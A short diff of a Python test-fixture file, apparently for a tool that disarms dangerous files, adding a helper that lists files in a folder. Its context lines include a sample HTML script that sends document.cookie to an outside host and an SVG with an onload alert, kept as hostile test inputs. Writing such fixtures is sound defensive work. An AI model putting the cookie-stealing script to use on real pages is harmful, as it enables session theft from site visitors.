@@ -5,6 +5,7 @@ import io
 import zipfile
 import zlib
 from collections.abc import Mapping
+from pathlib import Path
 
 from PIL import Image
 
@@ -201,6 +202,11 @@ def bomb() -> bytes:
 
 HTML = b"<!doctype html><script>fetch('//example.org/'+document.cookie)</script>"
 SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
+
+
+def list_kept(folder: Path) -> list[Path]:
+    return [path for path in folder.rglob("*") if path.is_file()]
+
 
 # What an ordinary reader opens: name → (bytes, whether the original is active).
 ORDINARY = {
